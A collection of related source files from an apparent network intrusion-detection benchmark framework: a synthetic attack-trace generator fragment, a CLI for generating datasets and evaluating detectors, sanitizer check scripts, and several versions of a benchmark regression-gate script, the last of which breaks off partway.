      MacAddr sta{0x02, 0xaa, 0x00, 0x00, 0x00,
                  static_cast<uint8_t>(16 + rng.below(6))};
      sim.emit(t + 0.002, build_dot11_mgmt(5, rogue_ap, sta, rogue_ap,
                                           ssid_body),
               1, AttackType::kDot11EvilTwin);
    }
    t += rng.exponential(rate);
  }
}

}  // namespace lumen::trace
