#!/usr/bin/env bash
# UB-check the whole suite: build with UndefinedBehaviorSanitizer
# (LUMEN_SANITIZE=undefined, non-recoverable) and run every ctest target.
# The dense-kernel library's pointer arithmetic over strided panels and the
# exponent-bit 2^n construction in the vector exp are the prime suspects
# this exists to watch. Usage:
#   tools/check_ubsan.sh [build-dir]
set -euo pipefail

cd "$(dirname "$0")/.."
BUILD="${1:-build-ubsan}"

cmake -B "$BUILD" -S . -DLUMEN_SANITIZE=undefined -DCMAKE_BUILD_TYPE=RelWithDebInfo
cmake --build "$BUILD" -j "$(nproc)"

export UBSAN_OPTIONS="${UBSAN_OPTIONS:-print_stacktrace=1:halt_on_error=1}"

(cd "$BUILD" && ctest --output-on-failure -j)

echo "UBSan: full ctest suite clean"
