// lumen — command-line front end to the framework.
//
//   lumen list-algorithms            the Table-2 registry
//   lumen list-datasets              the Table-3 benchmark suite
//   lumen list-ops                   the operation catalogue
//   lumen generate <id> <out.pcap> [--scale S] [--labels out.csv]
//                                    materialize a benchmark dataset
//   lumen run --template F --dataset <id|path.pcap> [--scale S]
//                                    execute a pipeline template file
//   lumen evaluate --algo A --dataset D [--train T] [--scale S]
//                                    same- or cross-dataset evaluation
//   lumen compare [--granularity connection|packet] [--scale S]
//                                    same-dataset precision matrix
#include <cstdio>
#include <cstring>
#include <fstream>
#include <sstream>

#include "eval/benchmark.h"
#include "eval/relevance.h"
#include "eval/report.h"
#include "netio/pcap.h"

namespace {

using namespace lumen;

/// Minimal flag parser: --name value pairs after the positional args.
struct Args {
  std::vector<std::string> positional;
  std::map<std::string, std::string> flags;

  static Args parse(int argc, char** argv) {
    Args a;
    for (int i = 1; i < argc; ++i) {
      if (std::strncmp(argv[i], "--", 2) == 0) {
        const std::string name = argv[i] + 2;
        if (i + 1 < argc && std::strncmp(argv[i + 1], "--", 2) != 0) {
          a.flags[name] = argv[++i];
        } else {
          a.flags[name] = "true";
        }
      } else {
        a.positional.push_back(argv[i]);
      }
    }
    return a;
  }

  std::string flag(const std::string& name, const std::string& dflt = "") const {
    auto it = flags.find(name);
    return it == flags.end() ? dflt : it->second;
  }
  double flag_num(const std::string& name, double dflt) const {
    auto it = flags.find(name);
    return it == flags.end() ? dflt : std::atof(it->second.c_str());
  }
};

int cmd_list_algorithms() {
  std::printf("%-5s %-40s %-11s %s\n", "ID", "Description", "Granularity",
              "Source");
  for (const core::AlgorithmDef& a : core::algorithm_registry()) {
    std::printf("%-5s %-40.40s %-11s %s\n", a.id.c_str(), a.label.c_str(),
                trace::granularity_name(a.granularity), a.paper.c_str());
  }
  return 0;
}

int cmd_list_datasets() {
  std::printf("%-4s %-32s %-11s %s\n", "ID", "Stand-in for", "Granularity",
              "Attacks");
  for (const auto& d : trace::dataset_inventory()) {
    std::printf("%-4s %-32.32s %-11s %s\n", d.id.c_str(), d.standin.c_str(),
                trace::granularity_name(d.granularity),
                d.attack_summary.c_str());
  }
  return 0;
}

int cmd_list_ops() {
  core::register_builtin_operations();
  for (const std::string& op : core::OperationRegistry::instance().known_ops()) {
    std::printf("%s\n", op.c_str());
  }
  return 0;
}

int cmd_generate(const Args& args) {
  if (args.positional.size() < 3) {
    std::fprintf(stderr, "usage: lumen generate <dataset-id> <out.pcap>\n");
    return 2;
  }
  const std::string id = args.positional[1];
  const std::string out = args.positional[2];
  const double scale = args.flag_num("scale", 1.0);
  const trace::Dataset ds = trace::make_dataset(id, scale);
  if (ds.packets() == 0) {
    std::fprintf(stderr, "unknown dataset id '%s'\n", id.c_str());
    return 1;
  }
  if (auto w = netio::write_pcap(out, ds.trace); !w.ok()) {
    std::fprintf(stderr, "%s\n", w.error().message.c_str());
    return 1;
  }
  std::printf("wrote %zu packets (%zu malicious) to %s\n", ds.packets(),
              ds.malicious_packets(), out.c_str());
  const std::string labels = args.flag("labels");
  if (!labels.empty()) {
    std::FILE* f = std::fopen(labels.c_str(), "w");
    if (f == nullptr) {
      std::fprintf(stderr, "cannot open %s\n", labels.c_str());
      return 1;
    }
    std::fprintf(f, "packet,label,attack\n");
    for (size_t i = 0; i < ds.packets(); ++i) {
      std::fprintf(f, "%zu,%d,%s\n", i, ds.label_at(i),
                   trace::attack_name(
                       static_cast<trace::AttackType>(ds.attack_at(i))));
    }
    std::fclose(f);
    std::printf("wrote per-packet labels to %s\n", labels.c_str());
  }
  return 0;
}

int cmd_run(const Args& args) {
  const std::string tpl_path = args.flag("template");
  const std::string ds_arg = args.flag("dataset");
  if (tpl_path.empty() || ds_arg.empty()) {
    std::fprintf(stderr,
                 "usage: lumen run --template FILE --dataset <id|pcap>\n");
    return 2;
  }
  std::ifstream in(tpl_path);
  if (!in) {
    std::fprintf(stderr, "cannot read %s\n", tpl_path.c_str());
    return 1;
  }
  std::stringstream buf;
  buf << in.rdbuf();

  auto spec = core::PipelineSpec::parse(buf.str());
  if (!spec.ok()) {
    std::fprintf(stderr, "template: %s\n", spec.error().message.c_str());
    return 1;
  }

  // Dataset: registry id or a pcap path.
  trace::Dataset ds;
  if (ds_arg.size() > 5 && ds_arg.substr(ds_arg.size() - 5) == ".pcap") {
    auto t = netio::read_pcap(ds_arg);
    if (!t.ok()) {
      std::fprintf(stderr, "%s\n", t.error().message.c_str());
      return 1;
    }
    ds.id = ds_arg;
    ds.trace = std::move(t).value();
    ds.pkt_label.assign(ds.trace.view.size(), 0);
    ds.pkt_attack.assign(ds.trace.view.size(), 0);
    ds.label_granularity = trace::Granularity::kPacket;
  } else {
    ds = trace::make_dataset(ds_arg, args.flag_num("scale", 1.0));
  }

  core::OpContext ctx;
  ctx.dataset = &ds;
  auto report = core::Engine().run(spec.value(), ctx);
  if (!report.ok()) {
    std::fprintf(stderr, "%s\n", report.error().message.c_str());
    return 1;
  }
  for (const auto& [name, value] : report.value().bindings) {
    std::printf("binding '%s': %s\n", name.c_str(),
                core::value_kind_name(core::kind_of(value)));
    if (const auto* m = std::get_if<core::Metrics>(&value)) {
      for (const auto& [k, v] : m->values) {
        std::printf("  %-10s %.4f\n", k.c_str(), v);
      }
    }
    if (const auto* t = std::get_if<features::FeatureTable>(&value)) {
      std::printf("  %zu rows x %zu columns\n", t->rows, t->cols);
    }
  }
  std::printf("\n%s",
              core::render_op_profile(
                  core::profile_from_spans(
                      telemetry::Registry::process().snapshot(),
                      report.value().span_ids, "engine.op."),
                  report.value().peak_bytes)
                  .c_str());
  return 0;
}

int cmd_evaluate(const Args& args) {
  const std::string algo = args.flag("algo");
  const std::string ds = args.flag("dataset");
  if (algo.empty() || ds.empty()) {
    std::fprintf(stderr,
                 "usage: lumen evaluate --algo A14 --dataset F4 [--train F5]\n");
    return 2;
  }
  eval::Benchmark::Options opts;
  opts.dataset_scale = args.flag_num("scale", 0.5);
  eval::Benchmark bench(opts);
  const std::string train = args.flag("train", ds);
  auto run = train == ds ? bench.same_dataset(algo, ds)
                         : bench.cross_dataset(algo, train, ds);
  if (!run.ok()) {
    std::fprintf(stderr, "%s\n", run.error().message.c_str());
    return 1;
  }
  const eval::EvalRecord& r = run.value().record;
  std::printf("%s trained on %s, tested on %s:\n", algo.c_str(),
              r.train_ds.c_str(), r.test_ds.c_str());
  std::printf("  precision %.4f\n  recall    %.4f\n  f1        %.4f\n"
              "  accuracy  %.4f\n  auc       %.4f\n",
              r.precision, r.recall, r.f1, r.accuracy, r.auc);
  std::printf("\nper-attack breakdown:\n");
  for (const eval::AttackScore& s : bench.per_attack(run.value())) {
    std::printf("  %-18s precision %.3f recall %.3f (%zu positives)\n",
                trace::attack_name(s.attack), s.precision, s.recall,
                s.positives);
  }
  return 0;
}

int cmd_explain(const Args& args) {
  const std::string algo = args.flag("algo");
  const std::string ds = args.flag("dataset");
  if (algo.empty() || ds.empty()) {
    std::fprintf(stderr, "usage: lumen explain --algo A10 --dataset F1\n");
    return 2;
  }
  eval::Benchmark::Options opts;
  opts.dataset_scale = args.flag_num("scale", 0.5);
  eval::Benchmark bench(opts);
  auto reports = eval::per_attack_relevance(bench, algo, ds, 5);
  if (!reports.ok()) {
    std::fprintf(stderr, "%s\n", reports.error().message.c_str());
    return 1;
  }
  std::printf("most discriminative features of %s on %s (|Cohen's d| vs "
              "benign):\n",
              algo.c_str(), ds.c_str());
  for (const auto& rep : reports.value()) {
    std::printf("  %-18s:", trace::attack_name(rep.attack));
    for (const auto& f : rep.top) {
      std::printf("  %s (%.1f)", f.feature.c_str(), f.score);
    }
    std::printf("\n");
  }
  return 0;
}

int cmd_compare(const Args& args) {
  const std::string gran = args.flag("granularity", "connection");
  eval::Benchmark::Options opts;
  opts.dataset_scale = args.flag_num("scale", 0.4);
  eval::Benchmark bench(opts);

  std::vector<std::string> algos, datasets;
  for (const core::AlgorithmDef& a : core::algorithm_registry()) {
    const bool pkt = a.granularity == trace::Granularity::kPacket;
    if (pkt == (gran == "packet") && a.id.rfind("AM", 0) != 0) {
      algos.push_back(a.id);
    }
  }
  datasets = gran == "packet" ? trace::packet_dataset_ids()
                              : trace::connection_dataset_ids();

  eval::Heatmap heat = eval::Heatmap::make(
      "same-dataset precision (" + gran + " granularity)", algos, datasets);
  for (size_t r = 0; r < algos.size(); ++r) {
    for (size_t c = 0; c < datasets.size(); ++c) {
      auto run = bench.same_dataset(algos[r], datasets[c]);
      if (run.ok()) heat.at(r, c) = run.value().record.precision;
    }
  }
  std::printf("%s", heat.render().c_str());
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  const Args args = Args::parse(argc, argv);
  if (args.positional.empty()) {
    std::fprintf(stderr,
                 "usage: lumen <list-algorithms|list-datasets|list-ops|"
                 "generate|run|evaluate|compare|explain> ...\n");
    return 2;
  }
  const std::string& cmd = args.positional[0];
  if (cmd == "list-algorithms") return cmd_list_algorithms();
  if (cmd == "list-datasets") return cmd_list_datasets();
  if (cmd == "list-ops") return cmd_list_ops();
  if (cmd == "generate") return cmd_generate(args);
  if (cmd == "run") return cmd_run(args);
  if (cmd == "evaluate") return cmd_evaluate(args);
  if (cmd == "compare") return cmd_compare(args);
  if (cmd == "explain") return cmd_explain(args);
  std::fprintf(stderr, "unknown command '%s'\n", cmd.c_str());
  return 2;
}
