#!/usr/bin/env bash
# Memory-check the capture and ingestion path: build the netio/pcap/ingest
# tests with AddressSanitizer and run them (the malformed-packet corpus and
# the fault-injecting source are designed to catch out-of-bounds parser
# reads here). Usage:
#   tools/check_asan.sh [build-dir]
set -euo pipefail

cd "$(dirname "$0")/.."
BUILD="${1:-build-asan}"

cmake -B "$BUILD" -S . -DLUMEN_SANITIZE=address -DCMAKE_BUILD_TYPE=RelWithDebInfo
cmake --build "$BUILD" -j --target netio_test pcap_test ingest_test ingest_batch_equiv_test ingest_shard_test frontend_test spsc_ring_test stream_engine_test dense_test compiled_model_test telemetry_test

export ASAN_OPTIONS="${ASAN_OPTIONS:-halt_on_error=1:detect_leaks=1}"

"$BUILD/tests/netio_test"
"$BUILD/tests/pcap_test"
"$BUILD/tests/ingest_test"
"$BUILD/tests/ingest_batch_equiv_test"
"$BUILD/tests/ingest_shard_test"
"$BUILD/tests/frontend_test"
"$BUILD/tests/spsc_ring_test"
"$BUILD/tests/stream_engine_test"
"$BUILD/tests/dense_test"
"$BUILD/tests/compiled_model_test"
"$BUILD/tests/telemetry_test"

echo "ASan: netio_test + pcap_test + ingest_test + ingest_batch_equiv_test + ingest_shard_test + frontend_test + spsc_ring_test + stream_engine_test + dense_test + compiled_model_test + telemetry_test clean"
