#!/usr/bin/env bash
# Single entry point for the verify recipe: the tier-1 build-and-test pass,
# then the ThreadSanitizer, AddressSanitizer, and UBSanitizer checks,
# and finally the throughput regression gates. Usage:
#   tools/check_all.sh [build-dir]
set -euo pipefail

cd "$(dirname "$0")/.."
BUILD="${1:-build}"

cmake -B "$BUILD" -S .
cmake --build "$BUILD" -j
(cd "$BUILD" && ctest --output-on-failure -j)

tools/check_tsan.sh
tools/check_asan.sh
tools/check_ubsan.sh
tools/check_bench.sh "$BUILD"

echo "check_all: tier-1 tests + TSan + ASan + UBSan + bench gate clean"
