#!/usr/bin/env bash
# Race-check the threading layer: build the pool/sweep tests with
# ThreadSanitizer and run them on an oversubscribed pool. Usage:
#   tools/check_tsan.sh [build-dir]
set -euo pipefail

cd "$(dirname "$0")/.."
BUILD="${1:-build-tsan}"

cmake -B "$BUILD" -S . -DLUMEN_SANITIZE=thread -DCMAKE_BUILD_TYPE=RelWithDebInfo
cmake --build "$BUILD" -j --target parallel_test sweep_test ingest_test

export LUMEN_THREADS="${LUMEN_THREADS:-4}"
export TSAN_OPTIONS="${TSAN_OPTIONS:-halt_on_error=1}"

"$BUILD/tests/parallel_test"
"$BUILD/tests/sweep_test"
"$BUILD/tests/ingest_test"

echo "TSan: parallel_test + sweep_test + ingest_test clean"
