#!/usr/bin/env bash
# Race-check the threading layer: build the pool/sweep tests with
# ThreadSanitizer and run them on an oversubscribed pool. Usage:
#   tools/check_tsan.sh [build-dir]
set -euo pipefail

cd "$(dirname "$0")/.."
BUILD="${1:-build-tsan}"

cmake -B "$BUILD" -S . -DLUMEN_SANITIZE=thread -DCMAKE_BUILD_TYPE=RelWithDebInfo
cmake --build "$BUILD" -j --target parallel_test sweep_test ingest_test ingest_batch_equiv_test ingest_shard_test frontend_test spsc_ring_test stream_engine_test flat_map_test dense_test compiled_model_test telemetry_test

# Oversubscribe the pool past hardware_concurrency to shake out races;
# LUMEN_THREADS_FORCE bypasses the default clamp to the core count.
export LUMEN_THREADS="${LUMEN_THREADS:-4}"
export LUMEN_THREADS_FORCE="${LUMEN_THREADS_FORCE:-1}"
export TSAN_OPTIONS="${TSAN_OPTIONS:-halt_on_error=1}"

"$BUILD/tests/parallel_test"
"$BUILD/tests/sweep_test"
"$BUILD/tests/ingest_test"
"$BUILD/tests/ingest_batch_equiv_test"
"$BUILD/tests/ingest_shard_test"
"$BUILD/tests/frontend_test"
"$BUILD/tests/spsc_ring_test"
"$BUILD/tests/stream_engine_test"
"$BUILD/tests/flat_map_test"
"$BUILD/tests/dense_test"
"$BUILD/tests/compiled_model_test"
"$BUILD/tests/telemetry_test"

echo "TSan: parallel_test + sweep_test + ingest_test + ingest_batch_equiv_test + ingest_shard_test + frontend_test + spsc_ring_test + stream_engine_test + flat_map_test + dense_test + compiled_model_test + telemetry_test clean"
