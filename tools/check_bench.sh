#!/usr/bin/env bash
# Throughput regression gate: run bench_ingest and fail if the 4-consumer
# configuration scores fewer packets per second than the 1-consumer one —
# the de-serialized ingest path must never make adding consumers a loss.
# Usage:
#   tools/check_bench.sh [build-dir]
set -euo pipefail

cd "$(dirname "$0")/.."
BUILD="${1:-build}"

cmake -B "$BUILD" -S . >/dev/null
cmake --build "$BUILD" -j --target bench_ingest

"$BUILD/bench/bench_ingest"

# bench_ingest writes its JSON artifact into the working directory.
JSON="BENCH_ingest.json"
[ -f "$JSON" ] || { echo "check_bench: $JSON not produced" >&2; exit 1; }

rate_for() {
  # Extract pkts_per_sec for a consumer count from the configs array.
  sed -n "s/.*\"consumers\": $1,.*\"pkts_per_sec\": \([0-9.]*\).*/\1/p" "$JSON"
}

ONE="$(rate_for 1)"
FOUR="$(rate_for 4)"
[ -n "$ONE" ] && [ -n "$FOUR" ] || {
  echo "check_bench: could not parse consumer rates from $JSON" >&2
  exit 1
}

if awk -v a="$FOUR" -v b="$ONE" 'BEGIN { exit !(a < b) }'; then
  echo "check_bench: FAIL — 4-consumer ($FOUR pkts/s) below 1-consumer ($ONE pkts/s)" >&2
  exit 1
fi

if ! grep -q '"paced_deterministic": true' "$JSON"; then
  echo "check_bench: FAIL — paced replay was not deterministic" >&2
  exit 1
fi

echo "check_bench: 4-consumer $FOUR pkts/s >= 1-consumer $ONE pkts/s"
