#!/usr/bin/env bash
# Throughput regression gates:
#  * bench_ingest — fail if the 4-consumer configuration scores fewer
#    packets per second than the 1-consumer one (the de-serialized ingest
#    path must never make adding consumers a loss).
#  * bench_ml — fail if any model's batched dense-kernel scoring path is
#    slower than the pre-PR per-row path it replaced.
#  * bench_telemetry — fail if full instrumentation costs the ingest
#    runtime more than 2% of its uninstrumented drain throughput.
# Usage:
#   tools/check_bench.sh [build-dir]
set -euo pipefail

cd "$(dirname "$0")/.."
BUILD="${1:-build}"

cmake -B "$BUILD" -S . >/dev/null
cmake --build "$BUILD" -j --target bench_ingest bench_ml bench_telemetry

"$BUILD/bench/bench_ingest"

# bench_ingest writes its JSON artifact into the working directory.
JSON="BENCH_ingest.json"
[ -f "$JSON" ] || { echo "check_bench: $JSON not produced" >&2; exit 1; }

rate_for() {
  # Extract pkts_per_sec for a consumer count from the configs array.
  sed -n "s/.*\"consumers\": $1,.*\"pkts_per_sec\": \([0-9.]*\).*/\1/p" "$JSON"
}

ONE="$(rate_for 1)"
FOUR="$(rate_for 4)"
[ -n "$ONE" ] && [ -n "$FOUR" ] || {
  echo "check_bench: could not parse consumer rates from $JSON" >&2
  exit 1
}

if awk -v a="$FOUR" -v b="$ONE" 'BEGIN { exit !(a < b) }'; then
  echo "check_bench: FAIL — 4-consumer ($FOUR pkts/s) below 1-consumer ($ONE pkts/s)" >&2
  exit 1
fi

if ! grep -q '"paced_deterministic": true' "$JSON"; then
  echo "check_bench: FAIL — paced replay was not deterministic" >&2
  exit 1
fi

echo "check_bench: 4-consumer $FOUR pkts/s >= 1-consumer $ONE pkts/s"

# --- bench_ml: batched scoring must not lose to the per-row path ---------
"$BUILD/bench/bench_ml"

ML_JSON="BENCH_ml.json"
[ -f "$ML_JSON" ] || { echo "check_bench: $ML_JSON not produced" >&2; exit 1; }

FAILED=0
while IFS= read -r line; do
  name="$(sed -n 's/.*"name": "\([^"]*\)".*/\1/p' <<<"$line")"
  speedup="$(sed -n 's/.*"speedup": \([0-9.]*\).*/\1/p' <<<"$line")"
  [ -n "$name" ] && [ -n "$speedup" ] || continue
  if awk -v s="$speedup" 'BEGIN { exit !(s < 1.0) }'; then
    echo "check_bench: FAIL — $name batched path slower than per-row (${speedup}x)" >&2
    FAILED=1
  fi
done < <(grep '"speedup"' "$ML_JSON")
[ "$(grep -c '"speedup"' "$ML_JSON")" -gt 0 ] || {
  echo "check_bench: no model speedups found in $ML_JSON" >&2
  exit 1
}
[ "$FAILED" -eq 0 ] || exit 1

echo "check_bench: all batched model paths at or above per-row throughput"

# --- bench_telemetry: instrumentation must cost <= 2% of drain rate ------
"$BUILD/bench/bench_telemetry"

TEL_JSON="BENCH_telemetry.json"
[ -f "$TEL_JSON" ] || { echo "check_bench: $TEL_JSON not produced" >&2; exit 1; }

OVERHEAD="$(sed -n 's/.*"overhead_pct": \(-\{0,1\}[0-9.]*\).*/\1/p' "$TEL_JSON")"
[ -n "$OVERHEAD" ] || {
  echo "check_bench: could not parse overhead_pct from $TEL_JSON" >&2
  exit 1
}

if awk -v o="$OVERHEAD" 'BEGIN { exit !(o > 2.0) }'; then
  echo "check_bench: FAIL — telemetry overhead ${OVERHEAD}% exceeds 2%" >&2
  exit 1
fi

echo "check_bench: telemetry overhead ${OVERHEAD}% within the 2% budget"
