#!/usr/bin/env bash
# Throughput regression gates:
#  * bench_ingest — fail if the 4-consumer configuration scores fewer
#    packets per second than the 1-consumer one (the de-serialized ingest
#    path must never make adding consumers a loss); fail if the
#    micro-batched online scoring path is slower than the row-at-a-time
#    baseline, or if its alert set diverged from the row-at-a-time run;
#    fail the shard-scaling gate if the sharded path regresses (multi-core
#    hosts: 4-shard drain must reach 2x the 1-shard drain; single-core
#    hosts: the 1-shard drain must stay within 10% of the single-queue
#    drain), if the sharded record stream diverged from the single-queue
#    one, or if the hot-swap run lost packets or never applied a swap;
#    fail the socket gate if the loopback TCP gateway drain falls below
#    0.8x the in-process replay drain, if the socket-ingested record
#    stream diverged from replay, or if per-connection accounting lost
#    frames.
#  * bench_ml — fail if any model's batched dense-kernel scoring path is
#    slower than the pre-PR per-row path it replaced.
#  * bench_telemetry — fail if full instrumentation costs the ingest
#    runtime more than 2% of its uninstrumented drain throughput.
#  * bench_stream — fail if the compiled per-packet streaming chain costs
#    more than 1.3x the bare KitsuneScorer path on the same stream (the
#    operator plumbing must stay a thin wrapper around the model math).
# Usage:
#   tools/check_bench.sh [build-dir]
set -euo pipefail

cd "$(dirname "$0")/.."
BUILD="${1:-build}"

# ---- tolerant JSON field extraction --------------------------------------
# The artifacts come from telemetry::json::Writer, which may legitimately
# split any object or array across lines (pretty-printing). These helpers
# therefore never assume one-object-per-line: the whole document is folded
# into a token stream (structural characters stripped) and keys are matched
# as exact "key": tokens, so layout changes cannot silently break a gate.

# json_num FILE KEY -> the value after the first "KEY": token.
json_num() {
  awk -v k="\"$2\":" '
    { buf = buf " " $0 }
    END {
      gsub(/[,{}\[\]]/, " ", buf)
      n = split(buf, t, /[ \t\r\n]+/)
      for (i = 1; i < n; i++) if (t[i] == k) { print t[i + 1]; exit }
    }' "$1"
}

# json_pair FILE KEY1 VAL1 KEY2 -> the value after "KEY2": in the object
# where "KEY1": VAL1 (keys in Writer emission order).
json_pair() {
  awk -v k1="\"$2\":" -v v1="$3" -v k2="\"$4\":" '
    { buf = buf " " $0 }
    END {
      gsub(/[,{}\[\]]/, " ", buf)
      n = split(buf, t, /[ \t\r\n]+/)
      for (i = 1; i < n; i++) {
        if (t[i] == k1 && t[i + 1] == v1) armed = 1
        else if (armed && t[i] == k2) { print t[i + 1]; exit }
      }
    }' "$1"
}

# json_named_nums FILE NAMEKEY NUMKEY -> "name value" per object, for
# sweeping arrays of {"NAMEKEY": "...", ..., "NUMKEY": N} objects.
json_named_nums() {
  awk -v nk="\"$2\":" -v vk="\"$3\":" '
    { buf = buf " " $0 }
    END {
      gsub(/[,{}\[\]]/, " ", buf)
      n = split(buf, t, /[ \t\r\n]+/)
      name = ""
      for (i = 1; i < n; i++) {
        if (t[i] == nk) { name = t[i + 1]; gsub(/"/, "", name) }
        else if (t[i] == vk && name != "") { print name, t[i + 1]; name = "" }
      }
    }' "$1"
}

# Parser self-test against a deliberately pretty-printed fixture: if the
# Writer ever changes layout, this is the failure mode the helpers must
# survive — catch parser rot here, not as a silently-passing gate.
selftest() {
  local fx="$BUILD/check_bench_selftest.json"
  mkdir -p "$BUILD"
  cat >"$fx" <<'EOF'
{
  "configs": [
    {
      "consumers": 1,
      "pkts_per_sec":
        1111.5
    },
    { "consumers": 4, "pkts_per_sec": 4444.0 }
  ],
  "online_models": [
    { "model": "KitNET",
      "speedup": 2.5, "compiled_vs_reference": 1.9 },
    {
      "model": "AutoEncoder", "speedup": 1.5,
      "compiled_vs_reference":
        0.97
    }
  ],
  "online_compiled": [
    { "precision": "f64", "score_ns_per_pkt": 905.0,
      "max_rel_divergence": 0.000000, "alerts_identical": true },
    {
      "precision": "f32",
      "score_ns_per_pkt": 478.1,
      "speedup_vs_reference": 1.97,
      "max_rel_divergence": 0.000001,
      "alerts_identical": true
    }
  ],
  "online":
  {
    "row_score_ns_per_pkt": 2000.0,
    "batched_score_ns_per_pkt":
      900.25,
    "alerts_identical": true
  }
}
EOF
  [ "$(json_pair "$fx" consumers 1 pkts_per_sec)" = "1111.5" ] &&
    [ "$(json_pair "$fx" consumers 4 pkts_per_sec)" = "4444.0" ] &&
    [ "$(json_num "$fx" batched_score_ns_per_pkt)" = "900.25" ] &&
    [ "$(json_num "$fx" alerts_identical)" = "true" ] &&
    [ "$(json_pair "$fx" precision '"f32"' score_ns_per_pkt)" = "478.1" ] &&
    [ "$(json_pair "$fx" precision '"f32"' max_rel_divergence)" = "0.000001" ] &&
    [ "$(json_pair "$fx" precision '"f64"' alerts_identical)" = "true" ] &&
    [ "$(json_named_nums "$fx" model speedup)" = "$(printf 'KitNET 2.5\nAutoEncoder 1.5')" ] &&
    [ "$(json_named_nums "$fx" model compiled_vs_reference)" = "$(printf 'KitNET 1.9\nAutoEncoder 0.97')" ] || {
    echo "check_bench: JSON parser self-test FAILED" >&2
    exit 1
  }
  rm -f "$fx"
}
selftest
echo "check_bench: JSON parser self-test passed"

cmake -B "$BUILD" -S . >/dev/null
cmake --build "$BUILD" -j --target bench_ingest bench_ml bench_telemetry bench_stream

"$BUILD/bench/bench_ingest"

# bench_ingest writes its JSON artifact into the working directory.
JSON="BENCH_ingest.json"
[ -f "$JSON" ] || { echo "check_bench: $JSON not produced" >&2; exit 1; }

rate_for() {
  # Extract pkts_per_sec for a consumer count from the configs array.
  json_pair "$JSON" consumers "$1" pkts_per_sec
}

ONE="$(rate_for 1)"
FOUR="$(rate_for 4)"
[ -n "$ONE" ] && [ -n "$FOUR" ] || {
  echo "check_bench: could not parse consumer rates from $JSON" >&2
  exit 1
}

if awk -v a="$FOUR" -v b="$ONE" 'BEGIN { exit !(a < b) }'; then
  echo "check_bench: FAIL — 4-consumer ($FOUR pkts/s) below 1-consumer ($ONE pkts/s)" >&2
  exit 1
fi

if [ "$(json_num "$JSON" paced_deterministic)" != "true" ]; then
  echo "check_bench: FAIL — paced replay was not deterministic" >&2
  exit 1
fi

echo "check_bench: 4-consumer $FOUR pkts/s >= 1-consumer $ONE pkts/s"

# --- online path: micro-batched scoring must beat row-at-a-time ----------
ROW_NS="$(json_num "$JSON" row_score_ns_per_pkt)"
BATCHED_NS="$(json_num "$JSON" batched_score_ns_per_pkt)"
[ -n "$ROW_NS" ] && [ -n "$BATCHED_NS" ] || {
  echo "check_bench: could not parse online score costs from $JSON" >&2
  exit 1
}

if awk -v b="$BATCHED_NS" -v r="$ROW_NS" 'BEGIN { exit !(b > r) }'; then
  echo "check_bench: FAIL — micro-batched online scoring ($BATCHED_NS ns/pkt) slower than row-at-a-time ($ROW_NS ns/pkt)" >&2
  exit 1
fi

if [ "$(json_num "$JSON" alerts_identical)" != "true" ]; then
  echo "check_bench: FAIL — micro-batched consumer alert set diverged from row-at-a-time" >&2
  exit 1
fi

echo "check_bench: online micro-batched $BATCHED_NS ns/pkt <= row-at-a-time $ROW_NS ns/pkt, alerts identical"

# --- compiled inference: plan speed and divergence gates ------------------
# f64 plans replay the reference kernels in the reference order, so their
# scores must be bit-identical (divergence exactly 0) and the alert set must
# match. f32 is the deployment precision: it must clear the absolute 700
# ns/pkt budget AND a 1.4x speedup over the reference batched path, with
# score divergence within 1e-3 and an identical alert set. i8 trades more
# divergence for an 8x smaller weight arena; only its documented 0.35
# divergence bound is gated (see docs/framework.md).
F64_DIV="$(json_pair "$JSON" precision '"f64"' max_rel_divergence)"
F64_ALERTS="$(json_pair "$JSON" precision '"f64"' alerts_identical)"
F32_NS="$(json_pair "$JSON" precision '"f32"' score_ns_per_pkt)"
F32_SPD="$(json_pair "$JSON" precision '"f32"' speedup_vs_reference)"
F32_DIV="$(json_pair "$JSON" precision '"f32"' max_rel_divergence)"
F32_ALERTS="$(json_pair "$JSON" precision '"f32"' alerts_identical)"
I8_DIV="$(json_pair "$JSON" precision '"i8"' max_rel_divergence)"
[ -n "$F64_DIV" ] && [ -n "$F32_NS" ] && [ -n "$F32_SPD" ] &&
  [ -n "$F32_DIV" ] && [ -n "$I8_DIV" ] || {
  echo "check_bench: could not parse online_compiled section from $JSON" >&2
  exit 1
}

if awk -v d="$F64_DIV" 'BEGIN { exit !(d != 0.0) }' ||
  [ "$F64_ALERTS" != "true" ]; then
  echo "check_bench: FAIL — compiled f64 plan not bit-identical to reference (divergence $F64_DIV, alerts_identical=$F64_ALERTS)" >&2
  exit 1
fi
if awk -v n="$F32_NS" 'BEGIN { exit !(n > 700.0) }'; then
  echo "check_bench: FAIL — compiled f32 KitNET plan at $F32_NS ns/pkt exceeds the 700 ns/pkt budget" >&2
  exit 1
fi
if awk -v s="$F32_SPD" 'BEGIN { exit !(s < 1.4) }'; then
  echo "check_bench: FAIL — compiled f32 KitNET plan only ${F32_SPD}x the reference batched path (need >= 1.4x)" >&2
  exit 1
fi
if awk -v d="$F32_DIV" 'BEGIN { exit !(d > 0.001) }' ||
  [ "$F32_ALERTS" != "true" ]; then
  echo "check_bench: FAIL — compiled f32 divergence $F32_DIV (bound 1e-3) or alert set diverged (alerts_identical=$F32_ALERTS)" >&2
  exit 1
fi
if awk -v d="$I8_DIV" 'BEGIN { exit !(d > 0.35) }'; then
  echo "check_bench: FAIL — compiled i8 divergence $I8_DIV exceeds the documented 0.35 bound" >&2
  exit 1
fi

echo "check_bench: compiled f64 bit-identical; f32 $F32_NS ns/pkt (${F32_SPD}x, divergence $F32_DIV); i8 divergence $I8_DIV within bounds"

# Every deployable scorer: the compiled plan must not lose to the reference
# scoring path. compiled_vs_reference is reference_ns / compiled_ns; several
# plans replay identical arithmetic, so the ratio sits at 1.0 +- timer noise
# on a shared host — gate at 0.85 to reject real regressions, not jitter.
FAILED=0
FOUND=0
while read -r name ratio; do
  [ -n "$name" ] && [ -n "$ratio" ] || continue
  FOUND=1
  if awk -v r="$ratio" 'BEGIN { exit !(r < 0.85) }'; then
    echo "check_bench: FAIL — $name compiled plan at ${ratio}x of its reference path" >&2
    FAILED=1
  fi
done < <(json_named_nums "$JSON" model compiled_vs_reference)
[ "$FOUND" -eq 1 ] || {
  echo "check_bench: no compiled_vs_reference ratios found in $JSON" >&2
  exit 1
}
[ "$FAILED" -eq 0 ] || exit 1

echo "check_bench: all compiled model plans at or above reference throughput"

# --- sharded ingestion: scaling, equivalence, hot swap -------------------
SHARD_VS_SQ="$(json_num "$JSON" sharded_vs_single_queue)"
SCALING="$(json_num "$JSON" scaling_4shard_vs_1shard)"
MULTI_CORE="$(json_num "$JSON" multi_core)"
